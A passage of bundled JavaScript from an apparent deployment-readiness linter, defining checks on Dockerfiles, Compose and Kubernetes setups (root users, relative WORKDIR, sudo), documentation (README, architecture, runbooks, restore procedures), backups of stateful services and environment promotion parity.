            const cmd = (0, _shell_1.parseShell)((0, _shell_1.runScript)(run, escape))
                .map((c) => withoutAssignments(c.words))
                .find((words) => words.length > 0 && (0, _shell_1.baseName)(words[0]) === 'sudo');
            if (cmd)
                ctx.report({ messageId: 'sudo', data: { command: cmd.slice(0, 4).join(' ') }, at: (0, _stages_1.locOf)(ctx.file, run) });
        }
    },
});


/***/ }),

/***/ 57270:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const image_users_1 = __webpack_require__(8816);
const types_1 = __webpack_require__(15200);
const _image_ref_1 = __webpack_require__(87188);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/user-root',
    target: 'dockerfile',
    meta: {
        title: 'Final stage runs as root',
        category: 'security',
        severity: 'warning',
        rationale: "Images run as root unless they switch user; a compromised MCP server then owns the container and any mounted volume. hadolint DL3002 flags a final USER root. The final stage inherits the USER of the stage it is built FROM, and of its base image: a base known to run as non-root (distroless nonroot, Chainguard, bitnami, grafana, official images whose entrypoint steps down) needs no USER, one known to run as root (official OS, language and web-server images, scratch) gets the warning, and any other base's user is in the image, which validate does not pull: that finding is info.",
        remediation: 'Create an unprivileged user and end the final stage with `USER <name>` or `USER 1001`.',
        messages: {
            noUser: 'the final stage never sets USER, so the container runs as root',
            unknownBase: "the final stage never sets USER, and whether its base image {{image}} runs as root is not known here: set USER, or check the base image's",
            rootUser: 'the final stage switches to USER {{user}}',
        },
    },
    check(ctx) {
        // The final stage and the stages it is built FROM, final first: the last USER among them wins.
        const chain = (0, _stages_1.shippedStages)((0, _stages_1.stagesOf)(ctx.dockerfile));
        const [last] = chain;
        if (!last)
            return;
        for (const stage of chain) {
            const final = stage.instructions.findLast((i) => i.getKeyword() === 'USER');
            if (!final)
                continue;
            const user = final.getArgumentsContent()?.trim() ?? '';
            if (/^(root|0)(:.*)?$/.test(user))
                ctx.report({ messageId: 'rootUser', data: { user }, at: (0, _stages_1.locOf)(ctx.file, final) });
            return;
        }
        // No USER anywhere: the base image's user.
        const first = chain[chain.length - 1];
        const base = (0, _image_ref_1.resolvedImageOf)(ctx.dockerfile, first);
        const at = (0, _stages_1.locOf)(ctx.file, last.from);
        const user = base === undefined ? 'unknown' : (0, image_users_1.defaultImageUser)(base);
        if (user === 'non-root')
            return;
        if (user === 'root')
            ctx.report({ messageId: 'noUser', at });
        else
            ctx.report({ messageId: 'unknownBase', data: { image: base ?? first.from.getImage() ?? '(none)' }, at, atInfo: true });
    },
});


/***/ }),

/***/ 773:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/workdir-relative',
    target: 'dockerfile',
    meta: {
        title: 'WORKDIR is a relative path',
        category: 'correctness',
        severity: 'warning',
        rationale: 'A relative WORKDIR resolves against whatever the previous WORKDIR was, including one set in the base image, so the same Dockerfile can put files in different places when the base image changes. hadolint DL3000.',
        remediation: 'Use an absolute path: `WORKDIR /app`.',
        messages: { relative: 'WORKDIR {{path}} is relative; use an absolute path' },
    },
    check(ctx) {
        for (const instr of ctx.dockerfile.getInstructions()) {
            if (instr.getKeyword() !== 'WORKDIR')
                continue;
            const path = (0, _stages_1.unquote)(instr.getArgumentsContent() ?? '');
            if (!path || path.startsWith('/') || path.startsWith('$') || /^[A-Za-z]:[\\/]/.test(path) || path.startsWith('\\'))
                continue;
            ctx.report({ messageId: 'relative', data: { path }, at: (0, _stages_1.locOf)(ctx.file, instr) });
        }
    },
});


/***/ }),

/***/ 65925:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isMarkdown = void 0;
exports.markdownFiles = markdownFiles;
exports.headingsOf = headingsOf;
exports.findHeading = findHeading;
const isMarkdown = (file) => /\.(md|markdown|mdx)$/i.test(file);
exports.isMarkdown = isMarkdown;
function markdownFiles(ctx) {
    return ctx.paths.filter(exports.isMarkdown);
}
/** ATX headings outside fenced code blocks. */
function headingsOf(text) {
    const out = [];
    const counts = new Map();
    let fence;
    text.split(/\r?\n/).forEach((line, i) => {
        const f = /^\s{0,3}(`{3,}|~{3,})/.exec(line);
        if (f) {
            if (!fence)
                fence = f[1][0];
            else if (f[1][0] === fence)
                fence = undefined;
            return;
        }
        if (fence)
            return;
        const m = /^\s{0,3}#{1,6}\s+(.*?)\s*#*\s*$/.exec(line);
        if (!m)
            return;
        const base = githubSlug(m[1]);
        const n = counts.get(base) ?? 0;
        counts.set(base, n + 1);
        out.push({ text: m[1], line: i + 1, slug: n ? `${base}-${n}` : base });
    });
    return out;
}
/** The anchor GitHub gives a heading: lower case, punctuation dropped, spaces to hyphens. */
function githubSlug(text) {
    return text
        .replace(/`|\*\*|__|\[([^\]]*)\]\([^)]*\)/g, '$1')
        .toLowerCase()
        .replace(/[^\p{L}\p{N}\s_-]/gu, '')
        .replace(/\s/g, '-');
}
/** The first markdown file (in path order) with a heading matching `pattern`. */
function findHeading(ctx, pattern) {
    for (const file of markdownFiles(ctx)) {
        const heading = headingsOf(ctx.read(file) ?? '').find((h) => pattern.test(h.text));
        if (heading)
            return { file, heading };
    }
    return undefined;
}


/***/ }),

/***/ 30776:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.statefulServices = statefulServices;
/** Services that keep data a restore would need: databases and other stores, StatefulSets, MCP servers with volumes. */
const list_services_1 = __webpack_require__(63251);
const DATA_STORE_IMAGES = new Set([
    'postgres',
    'postgis',
    'timescaledb',
    'timescaledb-ha',
    'mysql',
    'mariadb',
    'mongo',
    'mongodb',
    'redis',
    'valkey',
    'clickhouse-server',
    'elasticsearch',
    'opensearch',
    'qdrant',
    'chroma',
    'weaviate',
    'milvus',
    'neo4j',
    'rabbitmq',
    'minio',
    'etcd',
    'n8n',
    'influxdb',
    'couchdb',
    'cassandra',
]);
function statefulServices(ctx) {
    const out = [];
    for (const s of (0, list_services_1.distinctServices)((0, list_services_1.listServices)(ctx), 'deployment')) {
        const store = s.images.map(list_services_1.imageRepository).find((r) => DATA_STORE_IMAGES.has(r.split('/').pop()));
        if (store)
            out.push({ service: s, reason: `${store} image` });
        else if (s.object?.kind === 'StatefulSet')
            out.push({ service: s, reason: 'StatefulSet' });
        else if ((0, list_services_1.looksLikeMcpServer)(s)) {
            const volume = persistentVolumeOf(s);
            if (volume)
                out.push({ service: s, reason: `volume ${volume}` });
        }
    }
    return out;
}
/** A named Compose volume or a PersistentVolumeClaim the service mounts. */
function persistentVolumeOf(s) {
    if (s.platform === 'compose') {
        const volumes = Array.isArray(s.value.volumes) ? s.value.volumes : [];
        for (const v of volumes) {
            const source = typeof v === 'string'
                ? v.split(':')[0]
                : v && typeof v === 'object' && v.type !== 'bind'
                    ? v.source
                    : undefined;
            if (typeof source === 'string' && /^[A-Za-z0-9][\w.-]*$/.test(source))
                return source;
        }
        return undefined;
    }
    const spec = s.value.spec?.template?.spec;
    return spec?.volumes?.find((v) => v.persistentVolumeClaim)?.name;
}


/***/ }),

/***/ 99906:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const missing_location_1 = __webpack_require__(74521);
const types_1 = __webpack_require__(15200);
const _markdown_1 = __webpack_require__(65925);
const ARCHITECTURE_PATH = /(^|\/)architecture([-_./]|$)|(^|\/)(design|overview)\.md$/i;
const ARCHITECTURE_HEADING = /^(architecture|system (design|overview)|how it fits together)\b|\barchitecture( overview)?$/i;
exports["default"] = (0, types_1.defineCheck)({
    id: 'docs/architecture',
    target: 'repository',
    meta: {
        title: 'No architecture document',
        category: 'operations',
        severity: 'info',
        operatedOnly: true,
        rationale: 'Which MCP server talks to which backing store, what sits behind the LiteLLM gateway, which endpoints run which stack: during an incident or a restore this decides what to bring up first, and it lives only in heads unless it is written down.',
        remediation: 'Add docs/architecture.md (or an "Architecture" section in the README): the services, their dependencies and data stores, the networks and the deployment targets.',
        messages: {
            none: 'no architecture document: no docs/architecture*, ARCHITECTURE.md or "Architecture" section in any Markdown file',
        },
    },
    check(ctx) {
        if ((0, _markdown_1.markdownFiles)(ctx).some((f) => ARCHITECTURE_PATH.test(f)) || (0, _markdown_1.findHeading)(ctx, ARCHITECTURE_HEADING))
            return;
        ctx.report({ messageId: 'none', at: (0, missing_location_1.missingLocation)(ctx) });
    },
});


/***/ }),

/***/ 7207:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
const _stateful_1 = __webpack_require__(30776);
const SCRIPT = /\.(sh|bash|py|ps1|js|mjs|ts|rb|go)$|(^|\/)makefile$/i;
const BACKUP_PATH = /(^|\/)backups?\/|(^|\/)[^/]*backup[^/]*$/i;
const BACKUP_IMAGE = /(restic|borg(matic)?|pgbackrest|wal-g|barman|backup|kopia|duplicati)/;
const BACKUP_COMMAND = /\b(pg_dump(all)?|pg_basebackup|mysqldump|mariadb-dump|mongodump|redis-cli\s+(--rdb|bgsave)|restic\s+backup|borg\s+create)\b/;
const BACKUP_KINDS = /^(Schedule|Backup|ScheduledBackup|BackupConfiguration|BackupSchedule)$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'docs/backup',
    target: 'repository',
    meta: {
        title: 'Stateful services have no backup',
        category: 'reliability',
        severity: 'warning',
        operatedOnly: true,
        rationale: "The memory graph, the Postgres and TimescaleDB data behind the MCP servers and n8n's workflows exist once, on one volume. A host lost, a bad migration or an `docker compose down -v` and they are gone; a backup that is not in the repository is not reviewed, not versioned and usually not running.",
        remediation: 'Keep the backup with the stacks: a script under scripts/backup/ run on a schedule, a backup service in Compose (restic, pgbackrest, postgres-backup-local), or a Kubernetes CronJob or Velero/CloudNativePG schedule; document the restore next to it.',
        messages: {
            none: 'service "{{service}}" keeps data ({{reason}}{{more}}) but nothing in the repository backs it up: no backup script, backup service, CronJob or backup schedule',
        },
    },
    check(ctx) {
        const stateful = (0, _stateful_1.statefulServices)(ctx);
        if (!stateful.length)
            return ctx.notApplicable();
        if (hasBackup(ctx))
            return;
        const [first] = stateful;
        const more = stateful.length > 1
            ? `; ${stateful.length - 1} more: ${stateful
                .slice(1, 6)
                .map((s) => s.service.name)
                .join(', ')}${stateful.length > 6 ? ', …' : ''}`
            : '';
        ctx.report({ messageId: 'none', data: { service: first.service.name, reason: first.reason, more }, at: first.service.loc });
    },
});
function hasBackup(ctx) {
    if (ctx.paths.some((p) => BACKUP_PATH.test(p) && SCRIPT.test(p)))
        return true;
    if (ctx.kubernetes.some((o) => BACKUP_KINDS.test(o.kind) && o.apiVersion.includes('.')))
        return true;
    const cronJobs = ctx.kubernetes.filter((o) => o.kind === 'CronJob');
    if (cronJobs.some((o) => /backup/i.test(o.name) || BACKUP_COMMAND.test(JSON.stringify(o.value.spec ?? {}))))
        return true;
    return (0, list_services_1.listServices)(ctx).some((s) => s.platform === 'compose' &&
        (s.images.some((i) => BACKUP_IMAGE.test((0, list_services_1.imageRepository)(i))) || /backup/i.test(s.name) || BACKUP_COMMAND.test(s.args.join(' '))));
}


/***/ }),

/***/ 45123:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const README = /^readme(\.(md|markdown|rst|adoc|txt))?$/i;
/** Prose a newcomer needs: what the repository deploys, where, how. Headings, badges and links alone do not count. */
const MIN_PROSE_CHARS = 200;
exports["default"] = (0, types_1.defineCheck)({
    id: 'docs/readme',
    target: 'repository',
    meta: {
        title: 'The repository has no README that explains it',
        category: 'operations',
        severity: 'warning',
        rationale: 'The README is where an on-call engineer who has never touched the stack starts: which servers run where, which environments exist, how a change is deployed and rolled back. Without it, every incident starts with archaeology.',
        remediation: 'Add a README.md at the root: the services and their ports, the environments and their endpoints, how deploys and promotion work, and links to the runbooks.',
        messages: {
            missing: 'no README at the repository root',
            tooShort: '{{file}} has {{chars}} characters of prose (headings, badges and links aside); describe the services, environments and how they are deployed',
        },
    },
    check(ctx) {
        const file = ctx.paths.find((p) => README.test(p));
        if (!file)
            return ctx.report({ messageId: 'missing', at: { file: '.', line: 1, column: 1 } });
        const prose = (ctx.read(file) ?? '')
            .split(/\r?\n/)
            .filter((l) => !/^\s*(#|=+$|-+$)/.test(l))
            .join(' ')
            .replace(/!\[[^\]]*\]\([^)]*\)/g, '')
            .replace(/\[([^\]]*)\]\([^)]*\)/g, '$1')
            .replace(/<[^>]+>/g, '')
            .replace(/\s+/g, ' ')
            .trim();
        if (prose.length < MIN_PROSE_CHARS)
            ctx.report({ messageId: 'tooShort', data: { file, chars: prose.length }, at: { file, line: 1, column: 1 } });
    },
});


/***/ }),

/***/ 65775:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const missing_location_1 = __webpack_require__(74521);
const types_1 = __webpack_require__(15200);
const _markdown_1 = __webpack_require__(65925);
const _stateful_1 = __webpack_require__(30776);
const RESTORE_FILE = /(^|\/)[^/]*(restore|disaster|recovery|backup|(^|[-_])dr([-_.]|$))[^/]*$/i;
const RESTORE_HEADING = /\brestor(e|ing|ation)\b|disaster recovery|recovery (procedure|plan)/i;
exports["default"] = (0, types_1.defineCheck)({
    id: 'docs/restore-procedure',
    target: 'repository',
    meta: {
        title: 'No documented restore procedure',
        category: 'reliability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'A backup nobody has restored is a hope. The restore is done under pressure, by whoever is on call: which backup to take, how to stop the writers, the order in which the MCP servers and their stores come back, and how to check the data. Written down and reviewed, it can be rehearsed.',
        remediation: 'Add docs/DISASTER_RECOVERY.md (or a "Restore" section in a runbook): where backups are, the commands to restore each store, the order of services, and how to verify; rehearse it each quarter.',
        messages: {
            none: 'stateful services ({{services}}) but no restore procedure: no Markdown file about restore or disaster recovery and no "Restore" section',
        },
    },
    check(ctx) {
        const stateful = (0, _stateful_1.statefulServices)(ctx);
        if (!stateful.length)
            return ctx.notApplicable();
        const documented = (0, _markdown_1.markdownFiles)(ctx).some((f) => RESTORE_FILE.test(f) && /\brestor/i.test(ctx.read(f) ?? '')) || (0, _markdown_1.findHeading)(ctx, RESTORE_HEADING);
        if (!documented)
            ctx.report({ messageId: 'none', data: { services: [...new Set(stateful.map((s) => s.service.name))].slice(0, 6).join(', ') }, at: (0, missing_location_1.missingLocation)(ctx) });
    },
});


/***/ }),

/***/ 79441:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const node_path_1 = __importDefault(__webpack_require__(76760));
const yaml_tree_1 = __webpack_require__(43183);
const _rules_1 = __webpack_require__(54790);
const types_1 = __webpack_require__(15200);
const _markdown_1 = __webpack_require__(65925);
exports["default"] = (0, types_1.defineCheck)({
    id: 'docs/runbook-links',
    target: 'repository',
    meta: {
        title: "Alert's runbook link points at nothing",
        category: 'operations',
        severity: 'warning',
        rationale: 'On-call opens the runbook from the alert. A link to a runbook that was renamed, moved or never written, or to a section that no longer exists, fails exactly when it is needed; links into the repository can be checked with every change.',
        remediation: 'Point `runbook_url` at a file that exists (and a heading it has), or add the runbook in the same pull request as the alert.',
        messages: {
            missingFile: 'alert "{{alert}}" links the runbook {{target}}, which is not in the repository',
            missingAnchor: 'alert "{{alert}}" links {{target}}#{{anchor}}, but {{file}} has no heading with that anchor',
        },
    },
    check(ctx) {
        const exists = new Set(ctx.paths);
        const topDirs = new Set(ctx.paths.map((p) => p.split('/')[0]));
        let checked = 0;
        for (const doc of ctx.prometheusRules) {
            for (const rule of (0, _rules_1.alertingRules)(doc.root)) {
                const annotations = (0, _rules_1.isRecord)(rule.rule.annotations) ? rule.rule.annotations : {};
                const key = typeof annotations.runbook_url === 'string' ? 'runbook_url' : typeof annotations.runbook === 'string' ? 'runbook' : undefined;
                if (!key)
                    continue;
                const link = repositoryLink(String(annotations[key]), doc.file);
                if (!link)
                    continue;
                const file = link.candidates.find((c) => exists.has(c));
                // A link to another repository cannot be checked; one into a directory this repository has can.
                if (!file && !link.candidates.some((c) => topDirs.has(c.split('/')[0]) && c.includes('/')))
                    continue;
                checked++;
                const at = (0, yaml_tree_1.locateValue)(doc.root, [...rule.path, 'annotations', key], { file: doc.file, line: 1, column: 1 });
                const target = file ?? link.candidates[0];
                if (!file)
                    ctx.report({ messageId: 'missingFile', data: { alert: rule.name, target }, at });
                else if (link.anchor && (0, _markdown_1.isMarkdown)(file) && !(0, _markdown_1.headingsOf)(ctx.read(file) ?? '').some((h) => h.slug === link.anchor.toLowerCase())) {
                    ctx.report({ messageId: 'missingAnchor', data: { alert: rule.name, target, anchor: link.anchor, file }, at });
                }
            }
        }
        if (!checked)
            ctx.notApplicable();
    },
});
/**
 * The repository paths a runbook link may name: a relative path (from the repository root, or
 * from the rule file's directory), or the path after `/blob/<ref>/` or `/tree/<ref>/` of a link
 * to a repository host (a ref may contain slashes, so every split is a candidate).
 */
function repositoryLink(url, ruleFile) {
    const [rest, anchor] = url.trim().split('#', 2);
    if (!rest)
        return undefined;
    const clean = (p) => node_path_1.default.posix.normalize(decodeURIComponent(p)).replace(/^(\.\/)+|^\/+/, '');
    if (!/^[a-z][a-z0-9+.-]*:/i.test(rest)) {
        const fromRoot = clean(rest);
        const fromFile = clean(node_path_1.default.posix.join(node_path_1.default.posix.dirname(ruleFile), rest));
        return { candidates: [...new Set([fromRoot, fromFile])].filter((c) => !c.startsWith('..')), anchor };
    }
    let parsed;
    try {
        parsed = new URL(rest);
    }
    catch {
        return undefined;
    }
    const m = /^\/[^/]+\/[^/]+\/(?:-\/)?(?:blob|tree|src\/branch)\/(.+)$/.exec(parsed.pathname);
    if (!m)
        return undefined;
    const segments = m[1].split('/');
    const candidates = segments
        .slice(1)
        .map((_, i) => clean(segments.slice(i + 1).join('/')))
        .filter(Boolean);
    return candidates.length ? { candidates, anchor } : undefined;
}


/***/ }),

/***/ 48792:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const environments_1 = __webpack_require__(72658);
const list_services_1 = __webpack_require__(63251);
const missing_location_1 = __webpack_require__(74521);
const _alert_coverage_1 = __webpack_require__(67926);
const types_1 = __webpack_require__(15200);
const _markdown_1 = __webpack_require__(65925);
const RUNBOOK = /(^|\/)(runbooks?|playbooks?)\/|(^|\/)[^/]*(runbook|playbook|operations)[^/]*$/i;
exports["default"] = (0, types_1.defineCheck)({
    id: 'docs/runbooks',
    target: 'repository',
    meta: {
        title: 'No runbooks in the repository',
        category: 'operations',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'An alert that pages at 3 a.m. needs a procedure next to it: how to tell which endpoint is down, the safe mitigation, how to roll back. Runbooks kept with the stacks change in the same pull request as the services they describe. Asked where something pages: a repository with alerting rules of its own, one that deploys MCP servers, or one whose stackgate.yml names its environments (not a demo with production overlays and no alert).',
        remediation: 'Add Markdown runbooks under docs/runbooks/ (a server down, high latency, rollback, restore), and link them from the alerts with `runbook_url`.',
        messages: {
            none: 'no runbooks: no Markdown under a runbooks/ or playbooks/ directory and no RUNBOOK or OPERATIONS document',
        },
    },
    check(ctx) {
        if (!pagesSomeone(ctx))
            return ctx.notApplicable();
        if (!(0, _markdown_1.markdownFiles)(ctx).some((f) => RUNBOOK.test(f)))
            ctx.report({ messageId: 'none', at: (0, missing_location_1.missingLocation)(ctx) });
    },
});
/**
 * Runbooks are the procedures behind pages: they are asked where something pages. That is a
 * repository with alerting rules of its own, one that deploys MCP servers (whose alerts the
 * monitoring checks ask for), or one whose stackgate.yml names the environments it runs. An
 * example or demo repository with production overlays but no alert is not asked for them (the
 * alerting checks say what it lacks first).
 */
function pagesSomeone(ctx) {
    if ((0, _alert_coverage_1.alertRules)(ctx.prometheusRules).length > 0)
        return true;
    if ((0, environments_1.configuredEnvironmentNames)(ctx.config).length > 0)
        return true;
    return (0, list_services_1.deploysMcpServers)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
}


/***/ }),

/***/ 32380:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.promotions = promotions;
exports.isDevelopmentName = isDevelopmentName;
function promotions(environments) {
    const out = [];
    environments.forEach((env, i) => {
        if (!env.isProduction)
            return;
        const from = environments
            .slice(0, i)
            .reverse()
            .find((e) => !e.isProduction);
        if (from)
            out.push({ from, to: env });
    });
    return out;
}
/** Development environments may run extra services (debuggers, inspectors, local databases). */
function isDevelopmentName(name) {
    return /^(dev|devel|develop|development|local|sandbox)$/i.test(name) || /^(dev|local)[-_.]|[-_.](dev|local)$/i.test(name);
}


/***/ }),

/***/ 48939:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const image_reference_1 = __webpack_require__(78605);
const types_1 = __webpack_require__(15200);
const _promotion_1 = __webpack_require__(32380);
exports["default"] = (0, types_1.defineCheck)({
    id: 'environments/image-parity',
    target: 'repository',
    meta: {
        title: 'Production runs a different image repository than the environment before it',
        category: 'supply-chain',
        severity: 'info',
        rationale: 'Promotion moves the same artifact from staging to production; only the tag (or digest) changes. When production pulls from another repository or registry (a fork, a public image instead of the rebuilt one, a typo), what runs in production was never tested, and a vulnerability scan of the staging image says nothing about it.',
        remediation: 'Use the same image repository in every environment and let the overrides change only the tag or digest, e.g. `ghcr.io/acme/mcp-fetch:1.4.2` in staging and production.',
        messages: {
            different: 'service "{{service}}" of stack {{stack}} runs image repository {{production}} in {{productionEnv}} but {{previous}} in {{previousEnv}}',
        },
    },
    check(ctx) {
        const pairs = (0, _promotion_1.promotions)(ctx.compose.environments);
        if (!pairs.length || !ctx.compose.stacks.length)
            return ctx.notApplicable();
        const baseFiles = new Map(ctx.compose.stacks.map((s) => [s.name, new Set(s.files)]));
        for (const { from, to } of pairs) {
            const before = new Map((ctx.compose.effective.get(from.name) ?? []).flatMap((st) => st.services.map((s) => [`${st.name}/${s.name}`, s])));
            for (const stack of ctx.compose.effective.get(to.name) ?? []) {
                for (const s of stack.services) {
                    const prev = before.get(`${stack.name}/${s.name}`);
                    const a = imageOf(s);
                    const b = prev && imageOf(prev);
                    if (!a || !b || a.repository === b.repository)
                        continue;
                    // Point at the layer that made them differ: the production override, or else the other environment's.
                    const at = baseFiles.get(stack.name)?.has(a.loc.file) ? b.loc : a.loc;
                    ctx.report({
                        messageId: 'different',
                        data: { service: s.name, stack: stack.name, production: a.repository, productionEnv: to.name, previous: b.repository, previousEnv: from.name },
                        at,
                    });
                }
            }
        }
    },
});
function imageOf(s) {
    const node = s.node.entries.get('image');
    if (node?.kind !== 'scalar' || typeof node.value !== 'string' || !node.value.trim())
        return undefined;
    return { repository: normalizeRepository(node.value), loc: node.keyLoc ?? node.loc };
}
/** `nginx`, `docker.io/library/nginx` and `index.docker.io/library/nginx` are the same repository. */
function normalizeRepository(image) {
    let name = (0, image_reference_1.parseImageReference)(image).name.toLowerCase();
    name = name.replace(/^(docker\.io|index\.docker\.io|registry-1\.docker\.io)\//, '');
    return name.replace(/^library\/(?=[^/]+$)/, '');
}


/***/ }),

/***/ 7487:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const node_path_1 = __importDefault(__webpack_require__(76760));
const environments_1 = __webpack_require__(72658);
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'environments/overrides-present',
    target: 'repository',
    meta: {
        title: 'Compose stack has no override for an environment',
        category: 'operations',
        severity: 'warning',
        rationale: 'Without a per-environment override every endpoint runs the base file as is: production gets development log levels and limits, images cannot be pinned per environment, and promotion from staging to production is not a change anyone can review. A stack that has overrides for some environments but not others is usually one that was forgotten when an environment was added. A shared stack without any override (monitoring deployed once per site) is fine unless it runs MCP servers or no stack of the repository is layered at all.',
        remediation: 'Add an override file per environment, e.g. `stacks/<env>/docker-compose.yml` next to `stacks/common/docker-compose.yml`, or `docker-compose.<env>.yml` next to `docker-compose.yml` (an empty `services: {}` is fine), or map the files in stackgate.yml `stacks.<name>.environments`.',
        messages: {
            missing: 'stack "{{stack}}" has no override for environment(s) {{environments}}; expected {{expected}}',
        },
    },
    check(ctx) {
        const { stacks, environments } = ctx.compose;
        // Without environments (none configured, no stacks/<env> layout) there is nothing to override.
        if (!stacks.length || !(0, environments_1.hasNamedEnvironments)(environments))
            return ctx.notApplicable();
        const names = environments.map((e) => e.name);
        const specific = (stack, env) => {
            // Files applied in every environment (docker-compose.override.yml) are not environment overrides.
            const always = names.length > 1 ? (stack.environments[names[0]] ?? []).filter((f) => names.every((n) => (stack.environments[n] ?? []).includes(f))) : [];
            return (stack.environments[env] ?? []).filter((f) => !always.includes(f));
        };
        const anyLayered = stacks.some((s) => names.some((n) => specific(s, n).length));
        const mcpStacks = new Set((0, list_services_1.findMcpServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes })
            .filter((s) => s.platform === 'compose')
            .map((s) => s.stack));
        for (const stack of stacks) {
            const missing = names.filter((n) => !specific(stack, n).length);
            if (!missing.length)
                continue;
            if (missing.length === names.length && anyLayered && !mcpStacks.has(stack.name))
                continue;
            ctx.report({
                messageId: 'missing',
                data: { stack: stack.name, environments: missing.join(', '), expected: missing.map((env) => expectedOverride(stack.files[0], env)).join(', ') },
                at: { file: stack.files[0], line: 1, column: 1 },
            });
        }
    },
});
/** Where the convention looks for an override: stacks/<env>/<file> for a stacks/common base, else <name>.<env>.yml beside it. */
function expectedOverride(base, env) {
    const dir = node_path_1.default.posix.dirname(base);
    const file = node_path_1.default.posix.basename(base);
    if (node_path_1.default.posix.basename(dir) === 'common') {
        const parent = node_path_1.default.posix.dirname(dir);
        return parent === '.' ? `${env}/${file}` : `${parent}/${env}/${file}`;
    }
    const ext = node_path_1.default.posix.extname(file);
    return `${dir === '.' ? '' : `${dir}/`}${file.slice(0, -ext.length)}.${env}${ext}`;
}


/***/ }),

/***/ 5037:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const environments_1 = __webpack_require__(72658);
const project_1 = __webpack_require__(19409);
const list_services_1 = __webpack_require__(63251);
const missing_location_1 = __webpack_require__(74521);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'environments/production-defined',
    target: 'repository',
    meta: {
        title: 'No production environment is defined',
        category: 'operations',
        severity: 'warning',
        rationale: 'The strictest checks (resource limits, restart policies, pinned images, secrets) apply to production only, and promotion, smoke tests and gates are defined per environment. A repository whose production deployment cannot be told apart from development gets none of that, and the readiness score says nothing about what actually serves users.',
        remediation: 'Name the production environment in stackgate.yml (`environments: { prod: { production: true } }`) and give it its deployment: a Compose override (`stacks/prod/docker-compose.yml`) or Kubernetes manifests under a production path or namespace (`environments.prod.kubernetes.paths`).',
        messages: {
            noProduction: 'none of the environments ({{environments}}) is a production environment; mark one with `production: true` in stackgate.yml',
            empty: 'production environment(s) {{environments}} have no deployment of their own: no Compose override for them and no Kubernetes manifests in their paths or namespaces',
        },
    },
    check(ctx) {
        const { stacks } = ctx.compose;
        if (!stacks.length && !ctx.kubernetes.length)
            return ctx.notApplicable();
        // The environments of stackgate.yml or the Compose layout; else those the manifests' paths and
        // namespaces name. A repository that names none deploys what it has, as production.
        const environments = (0, environments_1.hasNamedEnvironments)(ctx.compose.environments) ? ctx.compose.environments : manifestEnvironments(ctx);
        if (!environments.length)
            return ctx.notApplicable();
        const production = environments.filter((e) => e.isProduction);
        if (!production.length) {
            // Override files beside a base one (docker-compose.dev.yml) name only what is not deployed:
            // the base files are. Unless stackgate.yml or the per-environment directory layout says so,
            // nothing claims a deployment model whose production is missing.
            if (!isDeclaredModel(ctx) && environments === ctx.compose.environments)
                return ctx.notApplicable();
            ctx.report({ messageId: 'noProduction', data: { environments: environments.map((e) => e.name).join(', ') }, at: (0, missing_location_1.missingLocation)(ctx) });
            return;
        }
        const explicit = (name) => name in ctx.config.environments;
        const hasDeployment = production.some((env) => stacks.some((s) => (s.environments[env.name] ?? []).length > 0 || explicit(env.name)) ||
            ctx.kubernetes.some((o) => (0, list_services_1.manifestEnvironment)(o, ctx.config).name === env.name));
        if (!hasDeployment)
            ctx.report({ messageId: 'empty', data: { environments: production.map((e) => e.name).join(', ') }, at: (0, missing_location_1.missingLocation)(ctx) });
    },
});
/** Whether the environments are stackgate.yml's or those of the stacks/common + stacks/<env> directory layout. */
function isDeclaredModel(ctx) {
    if ((0, environments_1.configuredEnvironmentNames)(ctx.config).length || ctx.config.stacks)
        return true;
    const files = ctx.compose.stacks.flatMap(project_1.stackFiles);
    return (0, project_1.directoryLayoutEnvironments)(files).length > 0;
}
/** The environments Kubernetes manifests belong to (config paths and namespaces, path segments, namespace names), once each. */
function manifestEnvironments(ctx) {
    const byName = new Map();
    for (const object of ctx.kubernetes) {
        const { name, isProduction } = (0, list_services_1.manifestEnvironment)(object, ctx.config);
        if (name && !byName.has(name))
            byName.set(name, { name, isProduction });
    }
    return [...byName.values()];
}


/***/ }),

/***/ 44223:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


